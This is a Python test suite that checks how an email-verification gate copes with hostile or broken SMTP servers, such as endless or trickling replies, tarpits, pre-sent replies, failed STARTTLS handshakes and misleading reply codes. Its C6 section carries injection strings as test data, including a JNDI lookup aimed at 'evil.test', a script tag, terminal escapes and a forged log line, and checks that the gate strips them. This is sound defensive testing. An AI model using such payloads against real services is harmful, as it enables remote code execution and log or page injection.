"""C: mail servers that are hostile or broken. What the gate read, and how long, is measured."""

from __future__ import annotations

import asyncio
import gc
import json
import time
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager, contextmanager
from typing import Final

import pytest

from gate.budget import Deadline
from gate.smtp.caps import Caps
from gate.smtp.reply import MAX_REPLY
from gate.smtp.session import Ending, Session
from gate.testing import HostRules, ScriptedMta, transcript
from gate.testing.lag import LoopLag
from tests.mailworld import mail_world, site
from tests.security.ground import gated, resident
from tests.smtp.test_probe import reason_of
from tests.smtp.test_probe import world as probed
from tests.smtp.test_session import served, talk

KIB: Final = 1024
NOISE: Final = 0.1
"""What a busy machine may add to a promise about time."""


@contextmanager
def counted(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[int]]:
    """How many octets each call of a session was given; nothing else changes."""
    sizes: list[int] = []
    receive = Session.data_received

    def count(self: Session, data: bytes) -> None:
        sizes.append(len(data))
        receive(self, data)

    with monkeypatch.context() as patch:
        patch.setattr(Session, "data_received", count)
        yield sizes


# -- C1 --------------------------------------------------------------------------------------------

ENDLESS: Final = {
    "one line without end": ("", b"220-" + b"x" * 4092, b"x" * 4096),
    "a million lines": ("", b"220-mx.test\r\n", b"220-x\r\n" * 500),
    "a million lines behind EHLO": ("EHLO", b"220 mx.test\r\n", b"250-x\r\n" * 500),
    "bytes at random": ("", b"\x00\xff" * 100, bytes(range(256)) * 16),
    "a refusal without end": ("RCPT", b"", b"550 5.1.1 " + b"y" * 4086),
}


@asynccontextmanager
async def endless(name: str) -> AsyncIterator[tuple[tuple[str, int], list[int]]]:
    """A server that never stops sending, in pieces of 4 KiB as a network would bring them."""
    until, first, piece = ENDLESS[name]
    sent: list[int] = []
    served: list[asyncio.Task[object] | None] = []

    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        served.append(asyncio.current_task())
        try:
            if until == "RCPT":
                writer.write(b"220 mx.test\r\n")
                for answer in (b"250 mx.test\r\n", b"250 ok\r\n"):
                    await reader.readline()
                    writer.write(answer)
                await reader.readline()
            else:
                writer.write(first)
                if until:
                    await reader.readline()
            while True:
                writer.write(piece)
                sent.append(len(piece))
                await writer.drain()
                await asyncio.sleep(0.0005)
        except OSError:
            pass
        finally:
            writer.transport.abort()

    server = await asyncio.start_server(talk, "127.0.0.1", 0)
    try:
        yield server.sockets[0].getsockname()[:2], sent
        await asyncio.gather(*filter(None, served))
    finally:
        server.close()
        await server.wait_closed()


@pytest.mark.parametrize("name", ENDLESS)
def test_C1__of_a_reply_without_end_17_kib_are_read(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def main() -> None:
        async with endless(name) as (where, _), mail_world({}) as world:
            world.seam.add("8.8.8.8", where)
            world.zones["a.test"] = "MX 0 m.a.test"
            world.zones["m.a.test"] = "A 8.8.8.8"
            gc.collect()
            before = resident()
            with counted(monkeypatch) as sizes:
                begun = time.monotonic()
                assert await world.reason("jane@a.test") == "protocol_error"
                assert time.monotonic() - begun < 0.1 + NOISE
            assert sum(sizes) <= MAX_REPLY + 5 * KIB  # one reply, and the piece that was too much
            assert resident() - before < 2 * KIB * KIB

    asyncio.run(main())


@pytest.mark.parametrize("name", ["banner_endless", "banner_no_line_end", "rcpt_megabyte"])
def test_C1__a_flood_that_came_in_one_go_is_dropped_with_the_connection(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The loop takes up to 256 KiB off a socket at once; that one time, and no second."""

    async def main() -> None:
        server = ScriptedMta(transcript(name), strict=False)
        async with LoopLag() as lag, mail_world({"a.test": server}) as world:
            with counted(monkeypatch) as sizes:
                assert await world.reason("jane@a.test") == "protocol_error"
            assert sum(sizes) <= 256 * KIB + MAX_REPLY
        assert lag.worst() < 0.05

    asyncio.run(main())


# -- C2 --------------------------------------------------------------------------------------------

TRICKLES: Final = {
    "greeting": "*dribble 0.5 220 mx.test",
    "EHLO": "S: 220 mx.test\nC: EHLO *\n*dribble 0.5 250 mx.test",
    "MAIL": "S: 220 mx.test\nC: EHLO *\nS: 250 mx.test\nC: MAIL *\n*dribble 0.5 250 ok",
    "RCPT": "S: 220 mx.test\nC: EHLO *\nS: 250 mx.test\nC: MAIL *\nS: 250 ok\nC: RCPT *\n"
    "*dribble 0.5 250 ok",
    "RSET": "S: 220 mx.test\nC: EHLO *\nS: 250 mx.test\nC: MAIL *\nS: 250 ok\nC: RCPT *\n"
    "S: 250 ok\nC: RSET\n*dribble 0.5 250 ok",
    "TLS": transcript("tls_hang"),
    "lines of one octet each": "*flood 20 220-\n*dribble 0.5 220-x",
}


def test_C2__a_host_that_trickles_gets_the_budget_and_no_more() -> None:
    """At every stage, all at once: each is its own host."""

    async def one(stage: str) -> None:
        script = TRICKLES[stage] + "\n*hang"
        async with probed(ScriptedMta(script, strict=False)) as here:
            begun = time.monotonic()
            finding = await here.probe(seconds=0.4)
            assert time.monotonic() - begun <= 0.4 + 0.05 + NOISE, stage
            settled = {"timeout", "tls_failed"} | ({"accepted_email"} if stage == "RSET" else set())
            assert reason_of(finding) in settled, stage
            async with asyncio.timeout(1.0):
                await here.servers[0].connections[0].lost.wait()

    async def main() -> None:
        await asyncio.gather(*map(one, TRICKLES))

    asyncio.run(main())


def test_C2__and_the_caller_is_answered_within_its_own() -> None:
    async def main() -> None:
        script = TRICKLES["EHLO"] + "\n*hang"
        async with gated({"a.test": ScriptedMta(script, strict=False)}) as (running, _):
            for budget in (100, 300):
                begun = time.monotonic()
                told = (await running.check(f"jane{budget}@a.test", timeout_ms=budget)).json()
                assert time.monotonic() - begun <= budget / 1000 + NOISE
                assert (told["reason"], told["decision"]) in (
                    ("timeout", "allow"),
                    ("throttled", "allow"),
                )

    asyncio.run(main())


# -- C3 --------------------------------------------------------------------------------------------

TARPITS: Final = 400
GOOD: Final = 12


async def tarpitted(tarpits: int) -> list[float]:
    """How long fresh checks of one site took, while another asked about so many tarpits."""
    servers: dict[str, HostRules | ScriptedMta] = {
        f"good{n}.test": HostRules(users=["jane"]) for n in range(GOOD)
    }
    tarpit = ScriptedMta(transcript("silent"), strict=False)
    async with tarpit, mail_world(servers, caps=Caps()) as world:
        for number in range(tarpits):
            ip = f"9.{number % 250}.{number // 250}.1"
            world.seam.add(ip, tarpit.address)
            world.zones[f"tar{number}.test"] = f"MX 0 m.tar{number}.test"
            world.zones[f"m.tar{number}.test"] = f"A {ip}"
        for number in range(GOOD):  # the test's own name server is not what is looked at
            deadline = Deadline.after(5.0, time.monotonic)
            await world.checker._resolver.route(f"good{number}.test", deadline)
        noisy, quiet = site("noisy"), site("quiet")
        stuck = [
            asyncio.create_task(world.check(f"jane@tar{n}.test", 3.0, site=noisy))
            for n in range(tarpits)
        ]
        seen = -1
        while seen < len(world.zones.queries):  # until all names were looked up
            seen = len(world.zones.queries)
            await asyncio.sleep(0.2)
        took = []
        for number in range(GOOD):
            begun = time.monotonic()
            answer = await world.check(f"jane@good{number}.test", 5.0, site=quiet)
            took.append(time.monotonic() - begun)
            assert answer.verdict.reason == "accepted_email"
        reasons = {answer.verdict.reason.value for answer in await asyncio.gather(*stuck)}
        assert reasons <= {"timeout", "throttled"}
        assert tarpit.accepted <= 16 or not tarpits  # a site's share
        await world.checker.close()
        return took


def test_C3__tarpits_of_one_site_do_not_hold_up_another() -> None:
    idle = asyncio.run(tarpitted(0))
    beside = asyncio.run(tarpitted(TARPITS))
    # One of the twelve may meet the moment in which the machine does something else.
    assert sorted(beside)[-2] < max(2 * sorted(idle)[-2], 0.25)


# -- C4, C5 ----------------------------------------------------------------------------------------

AHEAD: Final = {
    "all in one segment": transcript("prestaged_replies"),
    "three behind the greeting": "*raw 220 mx.test\\r\\n250 a\\r\\n250 b\\r\\n250 c\\r\\n\n*hang",
    "one behind EHLO": "S: 220 mx.test\nC: EHLO *\n*raw 250 mx.test\\r\\n250 ok\\r\\n\n*hang",
    "one behind MAIL": "S: 220 mx.test\nC: EHLO *\nS: 250 mx.test\nC: MAIL *\n"
    "*raw 250 ok\\r\\n250 2.1.5 ok\\r\\n\n*hang",
    "one too many of a pipeline": transcript("pipelining_extra_reply"),
    "two for one recipient": transcript("rcpt_two_replies"),
}


@pytest.mark.parametrize("name", AHEAD)
def test_C4__a_reply_ahead_of_its_command_is_no_acceptance(name: str) -> None:
    async def main() -> None:
        async with mail_world({"a.test": ScriptedMta(AHEAD[name], strict=False)}) as world:
            assert await world.reason("jane@a.test") == "protocol_error"

    asyncio.run(main())


TLS: Final = {
    "plaintext behind the 220": ("tls_injection", "protocol_error"),
    "closed behind the handshake": ("tls_close_after", "no_connect"),
    "noise instead of a handshake": ("tls_noise", "tls_failed"),
    "a version that is too old": ("tls_old", "tls_failed"),
    "an expired certificate": ("tls_expired", "accepted_email"),
    "demanded": ("tls_required", "accepted_email"),
    "demanded and not to be had": ("tls_not_offered", "tls_failed"),
}


@pytest.mark.parametrize("name", TLS)
def test_C5__each_end_of_starttls_is_a_finding_of_its_own(name: str) -> None:
    script, reason = TLS[name]

    async def main() -> None:
        server = ScriptedMta(transcript(script), strict=False)
        async with mail_world({"a.test": server}) as world:
            assert await world.reason("jane@a.test") == reason

    asyncio.run(main())


def test_C5__what_was_offered_before_the_handshake_is_forgotten() -> None:
    """PIPELINING in the clear, none within: the commands behind the handshake come one by one."""
    script = """
S: 220 mx.test ESMTP
C: EHLO *
S: 250-mx.test
S: 250-PIPELINING
S: 250 STARTTLS
C: MAIL FROM:<*>*
S: 530 5.7.0 Must issue a STARTTLS command first
C: RCPT *
S: 503 5.5.1 no
C: RSET
S: 250 ok
C: MAIL *
S: 530 5.7.0 Must issue a STARTTLS command first
C: RCPT *
S: 503 5.5.1 no
C: RSET
S: 250 ok
C: STARTTLS
S: 220 go ahead
*starttls
C: EHLO *
S: 250 mx.test
*rest 250 2.1.5 ok
"""

    async def main() -> None:
        server = ScriptedMta(script, strict=False)
        async with mail_world({"a.test": server}) as world:
            assert await world.reason("jane@a.test") == "accept_all"
            await world.landed()
            (connection,) = server.connections
            ehlos = [n for n, burst in enumerate(connection.bursts) if "EHLO" in burst[0]]
            assert len(ehlos) == 2
            behind = connection.bursts[ehlos[1] :]
            assert all(len(burst) == 1 for burst in behind if "QUIT" not in burst)

    asyncio.run(main())


# -- C6 --------------------------------------------------------------------------------------------

TEXTS: Final = {
    "a terminal and markup": "*raw 550 5.1.1 \\x1b[2J<script>jane@a.test no such user\\r\\n",
    "a new log line": '*raw 550-5.1.1 x\\r\\n550 5.1.1 {"level":"x"} jane@a.test unknown\\r\\n',
    "a look-up": "*raw 550 5.1.1 ${jndi:ldap://evil.test/x} jane@a.test user unknown\\r\\n",
    "unicode": "*raw 550 5.1.1 \\xe2\\x80\\xae jane@a.test \\xe2\\x80\\xa8 user unknown\\r\\n",
    "a long text": "*raw 550 5.1.1 user unknown jane@a.test " + "\\xc3\\xa9" * 900 + "\\r\\n",
}
BEFORE: Final = "S: 220 mx.test\nC: EHLO *\nS: 250 mx.test\nC: MAIL *\nS: 250 ok\nC: RCPT *\n"


@pytest.mark.parametrize("name", TEXTS)
def test_C6__what_a_server_says_is_a_code_and_no_text(
    name: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(0, "gate")

    async def main() -> bytes:
        script = BEFORE + TEXTS[name] + "\n*rest 250 ok"
        async with gated({"a.test": ScriptedMta(script, strict=False)}) as (running, _):
            told = (await running.check("jane@a.test", timeout_ms=3000, explain=True)).json()
            assert told["reason"] == "rejected_email"
            assert set(told["smtp"]) == {"stage", "code", "enhanced"}
            for line in told["transcript"]:
                assert len(line) <= 220 and line.isascii() and line.isprintable()
                assert "jane@" not in line
            page = await running.page("jane@a.test")
            assert "script" not in page.text and "jndi" not in page.text
        return bytes(running.written)

    written = asyncio.run(main())
    assert written.count(b"\n") == len(written.splitlines()) == 2
    assert not [octet for octet in written if octet < 0x20 and octet != 0x0A]
    assert all(json.loads(line)["event"] == "decision" for line in written.splitlines())
    for text in (written.decode(), caplog.text):
        assert "@" not in text and "script" not in text and "jndi" not in text


# -- C7 --------------------------------------------------------------------------------------------


def test_C7__a_certificate_chain_of_a_megabyte_is_failed_tls_and_holds_up_nobody() -> None:
    async def main(address: tuple[str, int]) -> None:
        async with LoopLag() as lag:
            run = await talk(address)
            assert run.ending is Ending.TLS_FAILED
        assert lag.worst() < 0.05

    with served("tls_huge_chain") as address:
        asyncio.run(main(address))


@pytest.mark.parametrize("name", ["tls_hang", "tls_noise", "tls_reset", "tls_old"])
def test_C7__no_handshake_holds_up_the_loop_or_the_budget(name: str) -> None:
    async def main(address: tuple[str, int]) -> None:
        async with LoopLag() as lag:
            begun = time.monotonic()
            run = await talk(address, seconds=0.4)
            assert run.ending in (Ending.TLS_FAILED, Ending.TLS_TIMED_OUT)
            assert time.monotonic() - begun < 0.4 + 0.05 + NOISE
        assert lag.worst() < 0.05

    with served(name) as address:
        asyncio.run(main(address))


# -- C8 --------------------------------------------------------------------------------------------

POISONED: Final = {
    "550 5.7.1 user unknown (blocked, see spamhaus)": "probe_blocked",
    "550 5.1.1 user unknown, your IP is listed at zen.spamhaus.org": "probe_blocked",
    "554 5.7.1 Service unavailable; Client host [192.0.2.1] blocked; no such user": "probe_blocked",
    "550 5.1.1 relay access denied": "relay_denied",
    "450 5.1.1 no such user": "greylisted",
    "550 2.1.5 recipient ok": "unconfirmed",
    "250 5.1.1 no such user": "protocol_error",
    "451 4.7.1 user unknown, greylisted, try again in 300 seconds": "greylisted",
    "550 5.1.1 <jane.blocked.spamhaus@a.test>: no such user": "rejected_email",
}


@pytest.mark.parametrize("line", POISONED)
def test_C8__a_word_of_one_meaning_in_a_reply_of_another_refuses_nobody(line: str) -> None:
    user = "jane.blocked.spamhaus" if "<jane." in line else "jane"

    async def main() -> None:
        script = BEFORE + f"S: {line}\n*rest 250 2.1.5 ok"
        async with mail_world({"a.test": ScriptedMta(script, strict=False)}) as world:
            reason = await world.reason(f"{user}@a.test")
            assert reason == POISONED[line]

    asyncio.run(main())


def test_C8__before_rcpt_nothing_is_said_of_a_mailbox() -> None:
    async def main(script: str) -> str:
        async with mail_world({"a.test": ScriptedMta(script, strict=False)}) as world:
            return await world.reason("jane@a.test")

    said: Callable[[str], str] = "550 5.1.1 user {} unknown".format
    for script in (
        f"S: {said('x')}",
        f"S: 220 mx.test\nC: EHLO *\nS: {said('y')}\nC: HELO *\nS: {said('y')}",
        f"S: 220 mx.test\nC: EHLO *\nS: 250 mx.test\nC: MAIL *\nS: {said('z')}",
    ):
        assert asyncio.run(main(script)) == "probe_blocked"
